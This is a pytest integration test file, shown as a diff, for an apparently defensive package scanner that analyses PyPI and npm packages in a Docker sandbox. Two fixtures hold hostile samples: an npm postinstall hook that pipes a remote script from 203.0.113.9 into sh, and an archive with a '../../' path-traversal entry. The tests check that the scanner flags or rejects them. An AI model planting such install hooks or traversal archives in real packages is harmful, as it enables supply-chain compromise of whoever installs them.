@@ -1,0 +1,153 @@
+"""The runner end to end on its side: real Redis, a loopback registry, the real sandbox."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from datetime import UTC, datetime
+from pathlib import Path
+from uuid import uuid4
+
+import aiodocker
+import aiohttp
+import pytest
+import pytest_asyncio
+import redis.asyncio as redis
+from prometheus_client import CollectorRegistry
+
+from packguard.common import keys
+from packguard.common.messages import TaskEvent, TaskMessage, decode_message
+from packguard.common.report import VerdictLabel
+from packguard.common.streams import publish
+from packguard.runner.metrics import RunnerMetrics
+from packguard.runner.registries import build_registries
+from packguard.runner.sandbox import DockerSandbox
+from packguard.runner.service import Runner, RunnerDependencies
+from packguard.runner.settings import RunnerSettings
+from tests.fixtures.packages import npm_tarball, pypi_sdist, tar_gz
+from tests.fixtures.registry import FixtureRegistry
+
+pytestmark = pytest.mark.integration
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def runner(
+    redis_client: redis.Redis,
+    redis_url: str,
+    fixture_registry: FixtureRegistry,
+    docker_host: str,
+    analyzer_image: str,
+    tmp_path: Path,
+) -> AsyncIterator[Runner]:
+    settings = RunnerSettings(
+        redis_url=redis_url,
+        analyzer_image=analyzer_image,
+        work_dir=str(tmp_path / "work"),
+        pypi_index_url=fixture_registry.pypi_index_url,
+        npm_registry_url=fixture_registry.npm_registry_url,
+        claim_idle_ms=2000,
+        cancel_poll_seconds=0.2,
+    )
+    async with aiohttp.ClientSession() as http, aiodocker.Docker(url=docker_host) as docker:
+        deps = RunnerDependencies(
+            redis=redis_client,
+            http=http,
+            sandbox=DockerSandbox(docker, cancel_poll_seconds=0.2),
+            registries=build_registries(
+                pypi_index=settings.pypi_index_url, npm_registry=settings.npm_registry_url
+            ),
+            metrics=RunnerMetrics.create(CollectorRegistry()),
+        )
+        yield Runner(settings, deps, "test-runner")
+
+
+def _task(purl: str) -> TaskMessage:
+    return TaskMessage(task_id=uuid4(), purl=purl, created_at=datetime.now(UTC))
+
+
+async def _events(client: redis.Redis) -> list[TaskEvent]:
+    entries = await client.xrange(keys.EVENTS_STREAM)
+    return [decode_message(TaskEvent, fields) for _, fields in entries]
+
+
+async def _run_one(runner: Runner, client: redis.Redis, task: TaskMessage) -> list[TaskEvent]:
+    await publish(client, keys.READY_STREAM, task)
+    await runner.consumer.run(drain=True)
+    return await _events(client)
+
+
+async def test_pypi_task_is_analysed_in_the_sandbox_and_reported(
+    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
+) -> None:
+    sdist = pypi_sdist("demo-pkg", "1.0.0")
+    fixture_registry.add_pypi("demo-pkg", sdist)
+    events = await _run_one(runner, redis_client, _task("pkg:pypi/demo-pkg@1.0.0"))
+    assert [e.kind for e in events] == ["running", "phase", "completed"]
+    completed = events[-1]
+    assert completed.artifact_sha256 == sdist.sha256
+    assert completed.report is not None
+    assert completed.report.package.name == "demo-pkg"
+    assert completed.report.artifacts[0].sha256 == sdist.sha256
+    assert any(entry.path.endswith("setup.py") for entry in completed.report.inventory)
+    assert await redis_client.xlen(keys.READY_STREAM) == 0
+
+
+async def test_npm_task_with_install_script_is_flagged(
+    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
+) -> None:
+    tarball = npm_tarball(
+        "demo-npm", "1.0.0", scripts={"postinstall": "curl -s http://203.0.113.9/x.sh | sh"}
+    )
+    fixture_registry.add_npm("demo-npm", "1.0.0", tarball)
+    events = await _run_one(runner, redis_client, _task("pkg:npm/demo-npm@1.0.0"))
+    report = events[-1].report
+    assert report is not None
+    assert report.verdict.label is not VerdictLabel.BENIGN
+    assert {f.rule_id for f in report.findings} >= {"install-hook-npm-script"}
+
+
+async def test_unknown_version_fails_as_not_found_without_retry(
+    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
+) -> None:
+    fixture_registry.add_pypi("demo-pkg", pypi_sdist("demo-pkg", "1.0.0"))
+    events = await _run_one(runner, redis_client, _task("pkg:pypi/demo-pkg@2.0.0"))
+    assert events[-1].kind == "failed"
+    assert events[-1].error_code == "not_found"
+    assert await redis_client.xlen(keys.SUBMITTED_STREAM) == 0
+
+
+async def test_registry_outage_is_retried_through_the_scheduler(
+    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
+) -> None:
+    fixture_registry.status_override["/simple/demo-pkg/"] = 503
+    task = _task("pkg:pypi/demo-pkg@1.0.0")
+    events = await _run_one(runner, redis_client, task)
+    assert [e.kind for e in events] == ["running"]
+    (_, fields), *_ = await redis_client.xrange(keys.SUBMITTED_STREAM)
+    retry = decode_message(TaskMessage, fields)
+    assert (retry.task_id, retry.attempt, retry.retry_reason) == (
+        task.task_id,
+        2,
+        "registry_unavailable",
+    )
+
+
+async def test_hostile_archive_fails_with_its_category(
+    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
+) -> None:
+    from tests.fixtures.packages import BuiltArtifact
+
+    evil = BuiltArtifact("evil-1.0.0.tar.gz", tar_gz({"../../escape.txt": "inert"}))
+    fixture_registry.add_pypi("evil", evil)
+    events = await _run_one(runner, redis_client, _task("pkg:pypi/evil@1.0.0"))
+    assert events[-1].kind == "failed"
+    assert events[-1].error_code == "hostile_archive"
+
+
+async def test_cancelled_task_never_runs(
+    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
+) -> None:
+    task = _task("pkg:pypi/demo-pkg@1.0.0")
+    await redis_client.set(keys.CANCEL_KEY_PREFIX + str(task.task_id), "1")
+    events = await _run_one(runner, redis_client, task)
+    assert [e.kind for e in events] == ["cancelled"]
+    assert fixture_registry.requests == []
